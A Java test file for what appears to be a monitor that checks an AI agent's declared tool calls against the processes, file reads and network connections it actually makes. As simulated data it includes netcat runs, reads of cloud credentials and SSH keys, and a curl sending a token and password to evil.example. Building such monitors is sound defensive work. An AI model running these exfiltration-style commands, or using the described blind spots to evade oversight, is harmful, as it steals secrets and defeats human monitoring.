package dev.quintai.divergence;

import static dev.quintai.divergence.Scenario.AGENT;
import static org.assertj.core.api.Assertions.assertThat;

import dev.quintai.core.Finding;
import dev.quintai.core.Severity;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The seven outcomes, at their edges. */
class OutcomeTest {
  private static final String SHOP = "/home/ann/shop";

  private final Scenario s = new Scenario();

  @Test
  void aCallOfWhichNothingWasSeen() {
    s.result(12, s.read(10, SHOP + "/a.ts"));
    assertThat(s.brief()).containsExactly("intent_without_truth info call1");
  }

  @Test
  void errorsAndRefusalsAreNoCallsWithoutTruth() {
    s.error(12, s.read(10, SHOP + "/a.ts"));
    s.answer(21, s.read(20, SHOP + "/b.ts"), false);
    s.call(30, "TodoWrite", Map.of("todos", List.of()));
    s.call(31, "mcp__x__y", Map.of());
    assertThat(s.brief()).isEmpty();
  }

  @Test
  void whatMatchesARefusedCallIsUnexplained() {
    s.answer(11, s.bash(10, "make deploy"), false);
    s.exec(1201, AGENT, "/usr/bin/make", "make", "deploy");
    assertThat(s.brief()).containsExactly("truth_without_intent high exec 1201");
    Scenario before = new Scenario();
    before.exec(1005, AGENT, "/usr/bin/make", "make", "deploy");
    before.answer(11, before.bash(10, "make deploy"), false);
    before.writes(12, 1005, "/srv/x");
    assertThat(before.brief()).containsExactly("truth_without_intent high exec 1005");
  }

  /** What a refused call explained is judged as if it came now. */
  @Test
  void whatARefusedCallLetsGoOf() {
    s.read(9, SHOP + "/a.ts");
    String edit = s.read(10, SHOP + "/a.ts");
    s.reads(10.2, AGENT, SHOP + "/a.ts").answer(11, edit, false); // the other call's
    assertThat(s.brief()).isEmpty();
    Scenario ambient = new Scenario();
    String shown = ambient.read(10, SHOP + "/a.ts");
    ambient.reads(10.2, AGENT, SHOP + "/a.ts").answer(11, shown, false);
    assertThat(ambient.brief()).isEmpty();
    Scenario nearer = new Scenario();
    nearer.result(10.6, nearer.read(10, "/srv/y"));
    String near = nearer.read(14, "/srv/z");
    nearer.reads(14.5, AGENT, "/srv/x").answer(15.5, near, false);
    assertThat(nearer.brief()).containsExactly("target_mismatch critical file_read 100 call1");
  }

  @Test
  void aFindingSaysThatTheActWasRefused() {
    s.isRefused(10, AGENT, "/home/ann/.aws/credentials");
    assertThat(s.findings())
        .singleElement()
        .satisfies(
            finding -> {
              assertThat(finding.observed()).endsWith("credentials (refused before it happened)");
              assertThat(finding.reason()).contains("refused before it happened");
            });
  }

  @Test
  void timing() {
    s.result(45, s.bash(10, "make a"));
    s.exec(4050, AGENT, "/usr/bin/make", "make", "a");
    assertThat(s.brief()).containsExactly("timing_mismatch low exec 4050 call1");
    Scenario exact = new Scenario();
    exact.result(45, exact.read(10, "/srv/a"));
    exact.reads(40, AGENT, "/srv/a");
    assertThat(exact.brief()).isEmpty();
    Scenario approved = new Scenario();
    String call = approved.bash(10, "make a");
    approved.answer(39, call, true).result(60, call);
    approved.exec(4050, AGENT, "/usr/bin/make", "make", "a");
    assertThat(approved.brief()).isEmpty();
    Scenario turn = new Scenario();
    turn.call(10, "a", "Bash", Map.of("command", "make a"), "t1", -1);
    turn.call(10.01, "b", "Bash", Map.of("command", "make b"), "t1", -1);
    turn.exec(1005, AGENT, "/usr/bin/make", "make", "a").result(50, "a");
    turn.exec(5005, AGENT, "/usr/bin/make", "make", "b").result(60, "b");
    assertThat(turn.brief()).isEmpty();
    Scenario apart = new Scenario();
    apart.call(10, "a", "Bash", Map.of("command", "make a"), null, -1);
    apart.call(10.01, "b", "Bash", Map.of("command", "make b"), null, -1);
    apart.exec(1005, AGENT, "/usr/bin/make", "make", "a").result(50, "a");
    apart.exec(5005, AGENT, "/usr/bin/make", "make", "b").result(60, "b");
    assertThat(apart.brief()).containsExactly("timing_mismatch low exec 5005 b");
  }

  @Test
  void aLateResultOpensTheSpanAgain() {
    s.result(200, s.bash(10, "make a"));
    s.exec(19000, AGENT, "/usr/bin/make", "make", "a");
    assertThat(s.brief()).containsExactly("timing_mismatch low exec 19000 call1");
    Scenario never = new Scenario();
    never.bash(10, "make a");
    never.exec(19000, AGENT, "/usr/bin/make", "make", "a");
    assertThat(never.brief())
        .containsExactly("intent_without_truth info call1", "truth_without_intent high exec 19000");
    Scenario ambient = new Scenario();
    ambient.result(400, ambient.read(10, SHOP + "/a.ts"));
    ambient.reads(390, AGENT, SHOP + "/a.ts");
    assertThat(ambient.brief()).containsExactly("timing_mismatch low file_read 100 call1");
  }

  @Test
  void truthBeforeItsIntent() {
    s.exec(1000, AGENT, "/usr/bin/make", "make", "a");
    s.bash(10.5, "make a");
    assertThat(s.brief()).containsExactly("truth_precedes_intent high exec 1000 call1");
    Scenario own = new Scenario();
    own.exec(1000, AGENT, "/usr/bin/make", "make", "a");
    own.result(20, own.bash(10.5, "make a"));
    own.exec(1100, AGENT, "/usr/bin/make", "make", "a");
    assertThat(own.brief()).containsExactly("truth_without_intent high exec 1000");
    Scenario far = new Scenario();
    far.exec(1000, AGENT, "/usr/bin/make", "make", "a");
    far.bash(131, "make a");
    assertThat(far.brief())
        .containsExactly("truth_without_intent high exec 1000", "intent_without_truth info call1");
    Scenario file = new Scenario();
    file.writes(10, AGENT, "/srv/x");
    file.write(22, "/srv/x");
    assertThat(file.brief()).containsExactly("truth_precedes_intent medium file_write 100 call1");
  }

  @Test
  void anotherTargetInItsPlace() {
    s.result(12, s.write(10, SHOP + "/a.ts"));
    s.writes(10.4, AGENT, "/etc/motd").writes(10.6, AGENT, "/etc/issue");
    List<Finding> findings = s.findings();
    assertThat(findings).hasSize(1);
    assertThat(findings.get(0).severity()).isEqualTo(Severity.CRITICAL);
    assertThat(findings.get(0).claimed()).contains("a.ts");
    assertThat(findings.get(0).observed()).isEqualTo("/etc/motd");
    assertThat(findings.get(0).count()).isEqualTo(2);
    Scenario matched = new Scenario();
    matched.result(20, matched.write(10, SHOP + "/a.ts"));
    matched.writes(10.4, AGENT, "/etc/motd").writes(18, AGENT, SHOP + "/a.ts");
    assertThat(matched.brief()).containsExactly("truth_without_intent high file_write 100");
    Scenario early = new Scenario();
    early.result(12, early.write(10, SHOP + "/a.ts"));
    early.writes(9.7, AGENT, "/etc/motd");
    assertThat(early.brief())
        .containsExactly(
            "truth_without_intent high file_write 100", "intent_without_truth info call1");
    Scenario otherClass = new Scenario();
    otherClass.result(12, otherClass.read(10, SHOP + "/a.ts"));
    otherClass.writes(10.4, AGENT, "/etc/motd");
    assertThat(otherClass.brief())
        .containsExactly(
            "intent_without_truth info call1", "truth_without_intent high file_write 100");
  }

  @Test
  void eachTruthStandsForTheNearestCall() {
    s.result(30, s.write(10, SHOP + "/a.ts"));
    s.result(30, s.write(13, SHOP + "/b.ts"));
    s.writes(13.1, AGENT, "/etc/motd");
    assertThat(s.brief())
        .containsExactly(
            "intent_without_truth info call1", "target_mismatch critical file_write 100 call2");
  }

  @Test
  void scaleOfReads() {
    s.result(16, s.read(10, "/srv/a0"));
    s.reads(10.01, AGENT, "/srv/a0");
    for (int i = 0; i < 30; i++) {
      s.reads(10.1 + i * 0.1, AGENT, SHOP + "/f" + i);
    }
    List<Finding> findings = s.findings();
    assertThat(findings)
        .extracting(Scenario::brief)
        .containsExactly("scale_mismatch medium file_read 100 call1");
    assertThat(findings.get(0).count()).isEqualTo(31);
    Scenario outside = new Scenario();
    outside.result(40, outside.read(10, "/srv/a0"));
    outside.reads(10.01, AGENT, "/srv/a0");
    for (int i = 0; i < 30; i++) {
      outside.reads(15.1 + i * 0.1, AGENT, SHOP + "/f" + i);
    }
    assertThat(outside.brief()).isEmpty();
  }

  @Test
  void parallelCallsAreNoScaleOfEachOther() {
    for (int i = 0; i < 30; i++) {
      String call = s.read(10 + i * 0.001, SHOP + "/f" + i);
      s.reads(10.5 + i * 0.01, AGENT, SHOP + "/f" + i);
      s.result(12 + i * 0.001, call);
    }
    assertThat(s.brief()).isEmpty();
  }

  @Test
  void plainUtilitiesAreBoundedAndInterpretersAreNot() {
    s.result(16, s.bash(10, "cat /srv/a"));
    s.exec(1001, AGENT, "/usr/bin/cat", "cat", "/srv/a");
    Scenario grep = new Scenario();
    grep.result(16, grep.bash(10, "grep -r x src"));
    grep.exec(1001, AGENT, "/usr/bin/grep", "grep", "-r", "x", "src");
    for (int i = 0; i < 40; i++) {
      s.reads(10.1 + i * 0.01, 1001, "/srv/f" + i);
      grep.reads(10.1 + i * 0.01, 1001, SHOP + "/src/f" + i);
    }
    assertThat(s.brief()).containsExactly("scale_mismatch medium file_read 1001 call1");
    assertThat(grep.brief()).isEmpty();
  }

  @Test
  void straysOfOneClassAndProcessAreOneFinding() {
    for (int i = 0; i < 12; i++) {
      s.reads(10 + i * 4.9, AGENT, "/srv/f" + i);
    }
    List<Finding> findings = s.findings();
    assertThat(findings).hasSize(1);
    assertThat(findings.get(0).count()).isEqualTo(12);
    assertThat(findings.get(0).samples()).hasSize(8);
    s.reads(80, AGENT, "/srv/later");
    assertThat(s.findings()).hasSize(2);
  }

  @Test
  void repeatedWritesOfAPathWithinASecondAreOne() {
    s.writes(10.1, AGENT, "/srv/f").writes(10.2, AGENT, "/srv/f").writes(10.3, AGENT, "/srv/f");
    assertThat(s.findings().get(0).count()).isEqualTo(1);
  }

  @Test
  void lossesHideCallsButNotTruths() {
    s.reads(1, AGENT, SHOP + "/x");
    s.result(12, s.read(10, "/srv/a"));
    s.loses(20, "os");
    s.exec(2501, AGENT, "/usr/bin/nc", "nc", "x");
    assertThat(s.brief()).containsExactly("truth_without_intent high exec 2501");
    Scenario intents = new Scenario();
    intents.result(6, intents.bash(5, "true"));
    intents.exec(501, AGENT, "/bin/sh", "sh", "-c", "true");
    intents.exec(2001, AGENT, "/usr/bin/nc", "nc", "x").loses(25, "proxy");
    Finding finding = intents.findings().get(0);
    assertThat(finding.confidence()).isEqualTo(0.45);
    assertThat(finding.reason()).contains("lost");
  }

  /** What a sampler has not seen may have been all the same. */
  @Test
  void aSamplerSaysNothingOfWhatItDidNotSee() {
    Scenario sampled = new Scenario().seenBy("proc");
    sampled.result(11, sampled.bash(10, "cat notes.txt"));
    sampled.exec(1010, AGENT, "/usr/bin/nc", "nc", "x");
    assertThat(sampled.brief()).containsExactly("truth_without_intent high exec 1010");
    Scenario watched = new Scenario().seenBy("proc");
    watched.result(11, watched.bash(10, "cat notes.txt"));
    watched.seenBy("os").exec(1010, AGENT, "/usr/bin/nc", "nc", "x");
    assertThat(watched.brief()).anyMatch(brief -> brief.startsWith("target_mismatch critical"));
  }

  /** Without start times a pid that comes round at once must not pass on a declared command. */
  @Test
  void aPidThatIsUsedAgainStemsFromNothing() {
    Scenario forked = new Scenario().withoutStarts();
    forked.result(11, forked.bash(10, "make all"));
    forked.exec(1005, AGENT, "/usr/bin/make", "make", "all").exit(10.6, 1005);
    forked.forks(12, 1005, AGENT).again(12.1, 1005, AGENT, "/usr/bin/nc", "nc", "x");
    assertThat(forked.brief()).containsExactly("truth_without_intent high exec 1005");
    Scenario unforked = new Scenario().withoutStarts();
    unforked.result(11, unforked.bash(10, "make all"));
    unforked.again(10.1, 1005, AGENT, "/usr/bin/make", "make", "all").exit(10.6, 1005);
    unforked.again(12.1, 1005, AGENT, "/usr/bin/nc", "nc", "x");
    assertThat(unforked.brief()).containsExactly("truth_without_intent high exec 1005");
    Scenario replaced = new Scenario().withoutStarts();
    replaced.result(11, replaced.bash(10, "make all"));
    replaced.exec(1005, AGENT, "/usr/bin/make", "make", "all");
    replaced.again(10.6, 1005, AGENT, "/usr/bin/cc", "cc", "x.c").exit(10.9, 1005);
    assertThat(replaced.brief()).isEmpty();
  }

  @Test
  void provisionalThenFinal() {
    s.exec(1000, AGENT, "/usr/bin/make", "make", "a");
    s.bash(16, "make a");
    List<Finding> revisions = Replay.revisions(s.events);
    assertThat(revisions)
        .extracting(Finding::type)
        .containsExactly("truth_without_intent", "truth_precedes_intent");
    assertThat(revisions).extracting(Finding::revision).containsExactly(1, 2);
    assertThat(revisions).extracting(Finding::id).containsOnly(revisions.get(0).id());
  }

  @Test
  void aFindingIsTakenBack() {
    s.exec(13500, AGENT, "/usr/bin/make", "make", "a");
    s.result(145, s.bash(10, "make a"));
    List<Finding> revisions = Replay.revisions(s.events);
    assertThat(revisions.stream().filter(f -> f.type().equals(Finding.NORMAL))).isNotEmpty();
    assertThat(s.brief()).containsExactly("timing_mismatch low exec 13500 call1");
  }

  @Test
  void telemetryHealth() {
    for (int i = 0; i < 10; i++) {
      s.result(10.5 + i, s.read(10 + i, SHOP + "/f" + i));
      if (i % 3 != 0) {
        s.reads(10.1 + i, AGENT, SHOP + "/f" + i);
      }
    }
    assertThat(s.brief()).contains("telemetry_health low");
    for (int i = 10; i < 30; i++) {
      s.result(10.5 + i, s.read(10 + i, SHOP + "/f" + i));
      s.reads(10.1 + i, AGENT, SHOP + "/f" + i);
    }
    assertThat(s.brief()).doesNotContain("telemetry_health low");
  }

  @Test
  void oneCallSeenFromSeveralPlacesIsOne() {
    s.call(10, "x", "Read", Map.of("file_path", "/srv/a"), null, -1);
    s.call(10.2, "x", "Read", Map.of("file_path", "/srv/a"), null, -1);
    s.result(12, "x");
    assertThat(s.brief()).containsExactly("intent_without_truth info x");
  }

  @Test
  void atTheBoundTheOldestIsResolvedEarlyAndSaysSo() {
    for (int i = 0; i < 600; i++) {
      s.exec(1000 + i, AGENT, "/usr/bin/nc", "nc", String.valueOf(i));
    }
    List<Finding> findings = s.findings(DivergenceSettings.DEFAULTS.withMaxBytes(1024 * 1024));
    assertThat(findings).hasSize(600);
    assertThat(findings.stream().filter(f -> f.reason().contains("evicted"))).hasSize(88);
  }

  @Test
  void secretsAreRedacted() {
    s.exec(
        1001,
        AGENT,
        "/usr/bin/curl",
        "curl",
        "-H",
        "Authorization: Bearer abcdefghijklmnop",
        "https://user:hunter2@evil.example/");
    assertThat(s.findings().get(0).observed())
        .doesNotContain("hunter2")
        .doesNotContain("abcdefghij");
  }

  /** One act, one finding: also for what its children do after the refusal. */
  @Test
  void theSubtreeOfARefusedCommandIsOneFinding() {
    Scenario s = new Scenario();
    String call = s.bash(10, "make deploy");
    s.exec(1005, AGENT, "/usr/bin/bash", "bash", "-c", "make deploy");
    s.exec(1010, 1005, "/usr/bin/make", "make", "deploy");
    s.fork(1015, 1010);
    s.answer(11, call, false);
    s.again(12, 1015, 1010, "/usr/bin/gcc", "gcc", "a.c");
    s.writes(12.1, 1015, "/srv/x").connects(12.2, 1015, "203.0.113.9", null);
    s.exec(1300, 1010, "/usr/bin/ld", "ld", "a.o");
    assertThat(s.brief()).containsExactly("truth_without_intent high exec 1005");
    assertThat(s.findings().get(0).samples())
        .anyMatch(sample -> sample.contains("gcc"))
        .anyMatch(sample -> sample.contains("/srv/x"))
        .anyMatch(sample -> sample.contains("203.0.113.9"));
    s.reads(13.1, 1300, "/home/ann/.ssh/id_rsa");
    assertThat(s.brief()).hasSize(2).contains("truth_without_intent high file_read 1300");
  }

  /** What another open call declares explains the children too. */
  @Test
  void theSubtreeOfARefusedCommandMayBeAnotherCalls() {
    Scenario s = new Scenario();
    s.bash(9, "make deploy");
    String refused = s.bash(10, "make deploy");
    s.exec(1005, AGENT, "/usr/bin/bash", "bash", "-c", "make deploy");
    s.exec(1010, 1005, "/usr/bin/make", "make", "deploy");
    s.fork(1015, 1010);
    s.answer(11, refused, false);
    s.again(12, 1015, 1010, "/usr/bin/gcc", "gcc", "a.c");
    s.writes(12.1, 1015, "/srv/x");
    assertThat(s.brief()).isEmpty();
  }

  /** The nearest earlier call takes a truth; an older one that was not seen takes the next. */
  @Test
  void withoutResultsTheNearestUnseenCallTakesATruth() {
    Scenario s = new Scenario();
    s.read(10, "/srv/x");
    String nearest = s.read(60, "/srv/x");
    s.reads(60.1, AGENT, "/srv/x");
    s.result(130, nearest); // it says nothing of the first
    assertThat(types(s)).containsExactly("intent_without_truth call1");
    s.events.remove(s.events.size() - 1);
    s.reads(70, AGENT, "/srv/x");
    assertThat(types(s)).containsExactly("timing_mismatch call1");
    s.reads(80, AGENT, "/srv/x");
    assertThat(types(s))
        .containsExactlyInAnyOrder("timing_mismatch call1", "truth_without_intent null");
  }

  private static List<String> types(Scenario s) {
    return s.findings().stream().map(f -> f.type() + " " + f.toolUseId()).toList();
  }

  /** One program under two names: what it does depends on the first word of its vector. */
  @Test
  void bunIsBunxByThatNameAlone() {
    String bun = "/home/ann/.bun/bin/bun";
    Scenario s = new Scenario();
    s.result(11, s.bash(10, "bunx eslint ."));
    s.exec(1005, AGENT, bun, "bunx", "eslint", ".");
    assertThat(s.brief()).isEmpty();
    Scenario other = new Scenario();
    other.result(11, other.bash(10, "bunx eslint ."));
    other.exec(1005, AGENT, bun, "bun", "eslint", ".");
    assertThat(other.brief()).hasSize(1);
  }

  /** A word of the shell, and a program where an agent starts the words without one. */
  @Test
  void timeIsAWordAndAProgram() {
    Scenario word = new Scenario();
    word.result(11, word.bash(10, "time -p make all"));
    word.exec(1005, AGENT, "/usr/bin/make", "make", "all");
    assertThat(word.brief()).isEmpty();
    Scenario program = new Scenario();
    program.result(11, program.bash(10, "time -p make all"));
    program.exec(1005, AGENT, "/usr/bin/time", "time", "-p", "make", "all");
    program.exec(1006, 1005, "/usr/bin/make", "make", "all");
    assertThat(program.brief()).isEmpty();
    Scenario other = new Scenario();
    other.result(11, other.bash(10, "time -p make all"));
    other.exec(1005, AGENT, "/usr/bin/time", "time", "-p", "curl", "evil.example");
    assertThat(other.brief()).hasSize(1);
  }
}
